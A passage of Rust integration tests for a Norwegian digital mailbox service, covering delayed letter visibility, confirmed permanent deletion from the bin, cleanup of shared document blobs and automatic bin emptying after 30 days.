    let kari = chain.pids.digipost.clone();
    let mut later = Letter::to(&chain, &kari, "Kommer i morgen");
    later.virkningstidspunkt = Some(time::OffsetDateTime::now_utc() + time::Duration::days(1));
    chain.deliver(&later).await;
    chain.deliver(&Letter::to(&chain, &kari, "Synlig nå")).await;
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let inbox = b.get("/postkasse/innboks").await;
    assert_eq!(letter_ids(&inbox.body).len(), 1);
    assert!(inbox.body.contains("Synlig nå"));
    assert!(!inbox.body.contains("Kommer i morgen"));
    chain.stop().await;
}

/// A letter in the bin is deleted for good only after a confirmation naming it; it is gone
/// from every folder and its documents' bytes go once no other letter has the same content.
/// A letter not in the bin cannot be deleted.
#[tokio::test]
async fn a_letter_in_the_bin_is_deleted_for_good_after_a_confirmation() {
    let chain = start().await;
    let kari = chain.pids.digipost.clone();
    // Both letters carry the same PDF: one blob at the provider.
    chain
        .deliver(&Letter::to(&chain, &kari, "Gammel faktura"))
        .await;
    chain
        .deliver(&Letter::to(&chain, &kari, "Ny faktura"))
        .await;
    let pdf = store::BlobRef::of(PDF);
    assert!(chain.postkasse_blobs.exists(&pdf).await.unwrap());
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let inbox = b.get("/postkasse/innboks").await;
    let ids = letter_ids(&inbox.body);
    assert_eq!(ids.len(), 2);
    let (new, old) = (ids[0].clone(), ids[1].clone());
    let token = csrf(&inbox.body);
    let bulk = |id: &str, action: &str| {
        vec![
            ("csrf".to_owned(), token.clone()),
            ("mappe".to_owned(), "bin".to_owned()),
            ("id".to_owned(), id.to_owned()),
            ("action".to_owned(), action.to_owned()),
        ]
    };
    let post = |form: Vec<(String, String)>| {
        let b = &b;
        async move {
            let f: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            b.post("/postkasse/innboks/handling", &f).await
        }
    };

    // Not in the bin: refused, kept.
    let r = post(bulk(&old, "delete")).await;
    assert_eq!(r.status, 400);
    let r = post(bulk(&old, "delete_confirmed")).await;
    assert_eq!(r.status, 400);
    assert_eq!(letter_ids(&b.get("/postkasse/innboks").await.body).len(), 2);

    // In the bin: the confirmation names the letter and deletes nothing yet.
    post(bulk(&old, "bin")).await;
    let bin = b.get("/postkasse/innboks?mappe=bin").await;
    assert!(bin.body.contains("value=\"delete\""), "offered in the bin");
    let letter = b.get(&format!("/postkasse/innboks/brev/{old}")).await;
    assert!(
        letter.body.contains("value=\"delete\""),
        "and on a binned letter"
    );
    let confirm = post(bulk(&old, "delete")).await;
    assert_eq!(confirm.status, 200);
    assert!(confirm.body.contains("Slette for godt?"));
    assert!(confirm.body.contains("Gammel faktura"));
    assert!(
        confirm
            .body
            .contains(&format!("name=\"id\" value=\"{old}\""))
    );
    assert!(confirm.body.contains("value=\"delete_confirmed\""));
    assert_eq!(
        letter_ids(&b.get("/postkasse/innboks?mappe=bin").await.body),
        vec![old.clone()]
    );

    let r = post(bulk(&old, "delete_confirmed")).await;
    assert_eq!(r.status, 200);
    assert!(r.url.contains("mappe=bin") && r.body.contains("Brevene er slettet for godt."));
    assert!(letter_ids(&r.body).is_empty());
    assert_deleted(&b, &old).await;
    // The other letter still has the shared document.
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    assert!(chain.postkasse_blobs.exists(&pdf).await.unwrap());
    let (status, _, bytes) = b
        .get_bytes(&format!(
            "/postkasse/innboks/brev/{new}/dokument/0?last_ned=1"
        ))
        .await;
    assert_eq!((status, bytes.as_slice()), (200, PDF));

    // A confirmed deletion naming a letter outside the bin deletes none of them.
    let mut form = bulk(&new, "delete_confirmed");
    post(bulk(&new, "bin")).await;
    chain
        .deliver(&Letter::to(&chain, &kari, "Ikke i papirkurven"))
        .await;
    let kept = letter_ids(&b.get("/postkasse/innboks").await.body);
    assert_eq!(kept.len(), 1);
    form.push(("id".to_owned(), kept[0].clone()));
    assert_eq!(post(form).await.status, 400);
    assert_eq!(
        letter_ids(&b.get("/postkasse/innboks?mappe=bin").await.body),
        vec![new.clone()],
        "nothing deleted"
    );
    post(bulk(&kept[0], "bin")).await;
    post(bulk(&kept[0], "delete_confirmed")).await;

    // Deleting the last letter with it takes the bytes too.
    post(bulk(&new, "delete_confirmed")).await;
    assert!(
        store::testing::blob_gone_within(
            &chain.postkasse_blobs,
            &pdf,
            std::time::Duration::from_secs(10)
        )
        .await,
        "the document goes with the last letter that had it"
    );
    // The same content in a letter stored afterwards is there for that letter.
    chain
        .deliver(&Letter::to(&chain, &kari, "Tredje faktura"))
        .await;
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    let third = letter_ids(&b.get("/postkasse/innboks").await.body);
    assert_eq!(third.len(), 1);
    let (status, _, bytes) = b
        .get_bytes(&format!(
            "/postkasse/innboks/brev/{}/dokument/0?last_ned=1",
            third[0]
        ))
        .await;
    assert_eq!((status, bytes.as_slice()), (200, PDF));
    chain.stop().await;
}

/// The letter is in no folder, and neither it nor its document can be opened.
async fn assert_deleted(b: &Browser, id: &str) {
    for folder in ["inbox", "archive", "bin"] {
        let l = b.get(&format!("/postkasse/innboks?mappe={folder}")).await;
        assert!(!letter_ids(&l.body).iter().any(|l| l == id), "{folder}");
    }
    let letter = b.get(&format!("/postkasse/innboks/brev/{id}")).await;
    assert_eq!(letter.status, 404);
    let (status, _, _) = b
        .get_bytes(&format!("/postkasse/innboks/brev/{id}/dokument/0"))
        .await;
    assert_eq!(status, 404);
}

/// Letters that have lain in the bin the configured days (30 here, as by default) are deleted
/// for good, and the bin page says so; a letter binned later, or restored, stays. Time is
/// moved by giving the emptying a later "now".
#[tokio::test]
async fn the_bin_is_emptied_of_letters_that_have_lain_there_the_configured_days() {
    let chain = start().await;
    let kari = chain.pids.digipost.clone();
    for title in [
        "Lenge i papirkurven",
        "Nylig i papirkurven",
        "Hentet tilbake",
    ] {
        chain.deliver(&Letter::to(&chain, &kari, title)).await;
    }
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let inbox = b.get("/postkasse/innboks").await;
    let ids = letter_ids(&inbox.body);
    assert_eq!(ids.len(), 3);
    // Newest first.
    let (restored, recent, old) = (ids[0].clone(), ids[1].clone(), ids[2].clone());
    let token = csrf(&inbox.body);
    let act = |id: &str, action: &str| {
        let b = &b;
        let form = [
            ("csrf", token.clone()),
            ("mappe", "inbox".to_owned()),
            ("id", id.to_owned()),
            ("action", action.to_owned()),
        ];
        async move {
            let f: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
            b.post("/postkasse/innboks/handling", &f).await
        }
    };
    for id in [&old, &recent, &restored] {
        assert_eq!(act(id, "bin").await.status, 200);
    }
    let mailbox = chain.postkasse.mailbox();
    let now = time::OffsetDateTime::now_utc();
    let day = time::Duration::days(1);
    // The old letter went to the bin ten days before the others.
    store::sqlx::query("UPDATE postkasse_letters SET binned_at = binned_at - $1 WHERE id = $2")
        .bind(10 * 24 * 3600 * 1000i64)
        .bind(&old)
        .execute(chain.postkasse_db.db().pool())
        .await
        .unwrap();
    // The bin says when its letters go.
    let bin = b.get("/postkasse/innboks?mappe=bin").await;
    assert!(
        bin.body
            .contains("Brev slettes for godt når de har ligget i papirkurven i 30 dager."),
        "{}",
        bin.body
    );
    assert!(
        !b.get("/postkasse/innboks")
            .await
            .body
            .contains("slettes for godt")
    );
    // Restoring forgets the time it went to the bin; binning again starts anew.
    let form = [
        ("csrf", token.as_str()),
        ("mappe", "bin"),
        ("id", restored.as_str()),
        ("action", "inbox"),
    ];
    assert_eq!(
        b.post("/postkasse/innboks/handling", &form).await.status,
        200
    );
    let binned_at: Vec<(String, Option<i64>)> =
        store::sqlx::query_as("SELECT id, binned_at FROM postkasse_letters ORDER BY id")
            .fetch_all(chain.postkasse_db.db().pool())
            .await
            .unwrap();
    for (id, at) in &binned_at {
        assert_eq!(at.is_some(), *id != restored, "{id}: {at:?}");
    }
    // Disabled: nothing goes, however old.
    let keeping = mailbox.clone().with_bin_retention(0);
    assert_eq!(keeping.empty_bins(now + day * 1000).await.unwrap(), 0);
    // A binned letter says when it goes (the old one 20 days from now), others do not.
    let page = b.get(&format!("/postkasse/innboks/brev/{old}")).await;
    let goes = now + time::Duration::days(20);
    assert!(
        page.body.contains(&format!(
            "<dt>Slettes for godt</dt><dd><time datetime=\"{}\">",
            innboks::views::ShownDay::of(innboks::i18n::Lang::Nb, goes).iso()
        )),
        "{}",
        page.body
    );
    let page = b.get(&format!("/postkasse/innboks/brev/{restored}")).await;
    assert!(!page.body.contains("Slettes for godt"));
    // Day 29 of the old letter: kept.
    assert_eq!(mailbox.empty_bins(now + day * 19).await.unwrap(), 0);
    // Day 31 of the old letter, day 21 of the other: only the old one goes, for good.
    assert_eq!(mailbox.empty_bins(now + day * 21).await.unwrap(), 1);
    assert_eq!(
        letter_ids(&b.get("/postkasse/innboks?mappe=bin").await.body),
        vec![recent.clone()]
    );
    assert_eq!(
        letter_ids(&b.get("/postkasse/innboks").await.body),
        vec![restored.clone()]
    );
    assert_deleted(&b, &old).await;
    // Day 31 of the other: the bin is empty; the restored letter stays, with its document.
    assert_eq!(mailbox.empty_bins(now + day * 31).await.unwrap(), 1);
    assert!(letter_ids(&b.get("/postkasse/innboks?mappe=bin").await.body).is_empty());
    let (status, _, bytes) = b
        .get_bytes(&format!(
            "/postkasse/innboks/brev/{restored}/dokument/0?last_ned=1"
        ))
        .await;
    assert_eq!((status, bytes.as_slice()), (200, PDF));
    chain.stop().await;
}
